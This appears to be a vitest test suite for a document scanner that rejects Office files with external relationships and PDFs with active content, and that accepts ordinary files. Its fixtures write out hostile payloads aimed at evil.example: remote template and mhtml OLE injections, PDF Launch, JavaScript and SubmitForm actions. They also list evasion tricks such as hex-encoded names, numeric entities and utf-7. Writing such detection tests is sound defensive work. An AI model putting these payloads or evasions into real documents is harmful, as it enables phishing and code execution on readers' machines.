import { strToU8 } from "fflate";
import { describe, expect, it } from "vitest";
import { DOCX, inspectOffice, XLSX } from "#worker/platform/documents/inspect-office.ts";
import { flawOfPdf } from "#worker/platform/documents/read-pdf.ts";
import { pdf } from "../worker/suppliers/pdf.ts";
import { officeFile, relation, relations } from "./office-file.ts";

const FAR = "https://evil.example/x";
const SETTINGS = "word/_rels/settings.xml.rels";
const template = relation("attachedTemplate", FAR);
const docx = (part: string, text: string) => inspectOffice(officeFile("docx", { [part]: text }));

describe("documents of Office that fetch from elsewhere are refused", () => {
  it.each([
    "word/_rels/settings.xml.rels",
    "word/_rels/settings2.xml.rels",
    "word/_rels/document.xml.rels",
    "word/_rels/SETTINGS.XML.RELS",
    "word/_rels/settings.xml%2Erels",
    "_rels/.rels",
    "custom/place/_rels/anything.xml.rels",
  ])("a template, named in %s", (part) => {
    expect(docx(part, relations(template))).toBe("active_content");
  });

  it.each([
    ["an object", relation("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html")],
    ["a packed object", relation("package", FAR)],
    ["a frame", relation("frame", FAR)],
    ["a part of the text", relation("subDocument", FAR)],
    ["text to be put in", relation("aFChunk", FAR)],
    ["the mode first", `<Relationship TargetMode="External" Target="${FAR}" Type="x/oleObject"/>`],
    ["other quotes and blanks", `<r:Relationship Type = 'x/oleObject '\nTarget='${FAR}' TargetMode\n=\t' External'/>`],
    ["behind a bracket in its target", relation("oleObject", "https://evil.example/?a>b")],
    ["among many others", relation("hyperlink", "https://a.example").repeat(3000) + template],
    ["a mode in numbers", relation("oleObject", FAR, ' TargetMode="&#69;xternal"')],
    ["a kind in numbers", template.replace("attached", "&#97;ttached")],
  ])("%s", (_, element) => {
    expect(docx("word/_rels/document.xml.rels", relations(element))).toBe("active_content");
    expect(inspectOffice(officeFile("xlsx", { "xl/worksheets/_rels/s.xml.rels": relations(element) }))).toBe(
      "active_content",
    );
  });

  it.each([
    ["of two bytes a character", [...relations(template)].join("\0")],
    [
      "with names for letters",
      `<!DOCTYPE x [<!ENTITY e "External">]>${relations(relation("a", FAR, ' TargetMode="&e;"'))}`,
    ],
    ["in another encoding", relations(template).replace("UTF-8", "utf-7")],
    ["larger than anybody's", relations(" ".repeat(5_000_000))],
  ])("relations %s can't be searched", (_, text) => {
    expect(docx(SETTINGS, text)).toBe("active_content");
  });

  it("parts in pieces are none of Office", () => {
    expect(docx("word/_rels/settings.xml.rels/[0].piece", relations(template))).toBe("broken_document");
  });
});

describe("ordinary documents of Office are kept", () => {
  it.each([
    [
      "links, pictures and another workbook",
      [
        relation("hyperlink", "https://shop.example/frame?a=1&amp;b=2#oleObject"),
        relation("hyperlink", "https://shop.example/&#1578;&#1605;&#1585;/"),
        relation("image", "https://shop.example/logo.png"),
        relation("externalLinkPath", "file:///C:/Prices/2026.xlsx"),
      ],
    ],
    [
      "an object within",
      [
        relation("oleObject", "../embeddings/oleObject1.bin", ""),
        relation("package", "../embeddings/a.xlsx", ' TargetMode="Internal"'),
      ],
    ],
    ["its own styles", [relation("styles", "styles.xml", ' TargetMode = "Internal" ')]],
    [
      "5,000 links of products",
      Array.from({ length: 5000 }, (_, at) => relation("hyperlink", `https://shop.example/${at}`)),
    ],
  ])("with %s", (_, elements) => {
    expect(docx("word/_rels/document.xml.rels", relations(...elements))).toBe(DOCX);
    expect(inspectOffice(officeFile("xlsx", { "xl/worksheets/_rels/sheet1.xml.rels": relations(...elements) }))).toBe(
      XLSX,
    );
  });

  it("with parts named in letters of any script, and a mark of order", () => {
    const parts = { "word/media/تمر%20khalas.png": "x", [SETTINGS]: `\uFEFF${relations()}` };
    expect(inspectOffice(officeFile("docx", parts))).toBe(DOCX);
  });
});

describe("PDFs that run, launch, fetch or send are refused", () => {
  it.each([
    "3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj",
    "3 0 obj << /S /#4aavaScript >> endobj",
    "3 0 obj << /S /L#61#75nch /F (calc.exe) >> endobj",
    "3 0 obj << /S/SubmitForm/F(https://evil.example) >> endobj",
    "3 0 obj << /S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit] >> endobj",
    "3 0 obj << /S/GoToE/T<</R/C>> >> endobj",
    "3 0 obj << /S/ImportData/F(x.fdf) >> endobj",
    "3 0 obj << /S /JavaScript) /K 1 >> endobj",
    "3 0 obj << /XFA 4 0 R >> endobj",
    "3 0 obj << /Type/RichMedia >> endobj",
    "3 0 obj << /EmbeddedFiles 4 0 R >> endobj",
    // Between the words of a stream that is none.
    ">>stream\n3 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream",
    "(>>stream\n) 3 0 obj <</S/Launch/F(calc.exe)>> endobj (endstream)",
    "3 0 obj << /A % >>stream\n << /S % the kind\r\n /Launch >> %endstream\n >> endobj",
    ">>stream\n4 0 obj /Launch endobj 3 0 obj << /#53 4 0 R >> endobj\nendstream",
    ">>stream\n3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj\nendstream",
    "3 0 obj << /Length 3 >>stream\nabc\nendstream endobj 4 0 obj << /S /JavaScript >> endobj",
    "3 0 obj << >>stream\n /JS no end",
  ])("%s", (inside) => {
    expect(flawOfPdf(pdf(inside))).toBe("active_content");
  });
});

describe("ordinary PDFs are kept", () => {
  const noise = Array.from({ length: 300_000 }, (_, at) => String.fromCharCode((at * at * 31 + (at >> 3)) & 255)).join(
    "",
  );
  it.each([
    ["links", "3 0 obj << /S /URI /URI (https://shop.example/JavaScript) >> endobj"],
    ["jumps within", "3 0 obj << /S /GoTo /D [1 0 R /Fit] >> endobj 4 0 obj << /S /Named /N /NextPage >> endobj"],
    ["fields without a button that sends", "3 0 obj << /FT /Tx /T (name) /AA << /K 4 0 R >> >> endobj"],
    ["names that begin alike", "3 0 obj << /JSFont /LaunchPad /XFAContent /GoToRight /JavaScripts 1 >> endobj"],
    [
      "words of a text about scripts",
      "3 0 obj << /Length 60 >>\nstream\nBT (Q3/Launch and HTML/CSS/JavaScript, /JS /XFA) Tj ET\nendstream endobj",
    ],
    [
      "a profile of its facts",
      "3 0 obj << /Type /Metadata >>\nstream\n<dc:subject>Dates/Launch, web/JavaScript </dc:subject>\nendstream endobj",
    ],
    [
      "compressed pages",
      `3 0 obj << /Filter /FlateDecode >>\r\nstream\r\n${noise.replaceAll("endstream", "")} /JS \r\nendstream endobj`,
    ],
  ])("with %s", (_, inside) => {
    expect(flawOfPdf(pdf(inside))).toBeNull();
  });

  it("of any version, with a mark behind its end", () => {
    expect(flawOfPdf(strToU8(`${new TextDecoder("latin1").decode(pdf()).replace("1.4", "2.0")}\r\n\0`))).toBeNull();
  });
});

describe("names of a PDF in hexadecimal digits", () => {
  const flawOf = (name: string) => flawOfPdf(pdf(`3 0 obj << /S /${name} >> endobj`)) ?? null;

  it.each(["#4aavaScript", "#4AavaScript", "J#61vaScript", "#4a#61#76#61#53#63#72#69#70#74"])("%s are read", (name) => {
    expect(flawOf(name)).toBe("active_content");
  });

  it.each(["#4:avaScript", "#4@avaScript", "#4gavaScript", "#4/avaScript", "#4`avaScript"])("%s is none", (name) => {
    expect(flawOf(name)).toBeNull();
  });
});
